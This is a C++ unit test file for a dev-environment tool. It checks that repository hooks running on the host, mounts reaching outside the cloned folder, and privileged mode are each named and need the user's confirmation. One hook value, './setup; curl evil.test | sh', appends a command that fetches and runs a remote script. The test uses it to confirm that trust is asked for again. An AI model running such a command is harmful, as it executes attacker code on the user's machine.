#include "devenv/environment/trust.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "devenv/core/fd.hpp"
#include "tests/fixtures/temp_folder.hpp"

namespace photon::environment {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

struct Clone {
  Clone() {
    record.label = "acme/web";
    record.source = "https://git.example.org/acme/web";
    record.folder = folder.path;
  }
  fixtures::TempFolder folder;
  Record record;
  spec::Plan plan;
};

TEST(Trust, WhatStaysInTheContainerNeedsNone) {
  Clone clone;
  clone.plan.hooks[spec::Stage::post_create] = {{{"", "make", {}}}};
  clone.plan.mounts = {{.type = "volume", .source = "cache", .target = "/cache"},
                       {.type = "bind", .source = clone.folder.path + "/sub", .target = "/sub"}};
  clone.plan.privileged = true;  // of the user's own namespace
  EXPECT_THAT(asks_of_machine(clone.plan, clone.record, false), IsEmpty());
  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
}

TEST(Trust, WhatIsOutsideIsNamed) {
  Clone clone;
  clone.plan.hooks[spec::Stage::initialize] = {{{"", "", {"./setup", "now"}}}};
  std::filesystem::create_symlink("/etc", clone.folder.path + "/link");
  clone.plan.mounts = {
      {.type = "bind", .source = clone.folder.path + "/link", .target = "/e", .read_only = true},
      {.type = "bind", .source = clone.folder.path + "/../x", .target = "/x"}};
  clone.plan.privileged = true;
  EXPECT_THAT(asks_of_machine(clone.plan, clone.record, true),
              ElementsAre("run here: ./setup now", "read " + clone.folder.path + "/link at /e",
                          "read and write " + clone.folder.path + "/../x at /x",
                          "all rights of this machine's root (privileged)"));
}

TEST(Trust, IsAskedForOnceAndAgainWhenMoreIsAsked) {
  Clone clone;
  clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup", {}}}};
  auto asked = check_trust(clone.plan, clone.record, &Record::trusted, false, false);
  ASSERT_FALSE(asked);
  EXPECT_EQ(asked.error().kind, Kind::needs_confirmation);
  EXPECT_EQ(asked.error().hint,
            "run here: ./setup\ndevenv up --trust https://git.example.org/acme/web allows it");
  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, true));
  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
  clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup; curl evil.test | sh", {}}}};
  EXPECT_FALSE(check_trust(clone.plan, clone.record, &Record::trusted, false, false));
}

TEST(Trust, AFolderOfOnesOwnIsTrusted) {
  Clone clone;
  clone.record.local = true;
  clone.plan.hooks[spec::Stage::initialize] = {{{"", "./setup", {}}}};
  EXPECT_TRUE(check_trust(clone.plan, clone.record, &Record::trusted, true, false));
}

}  // namespace
}  // namespace photon::environment
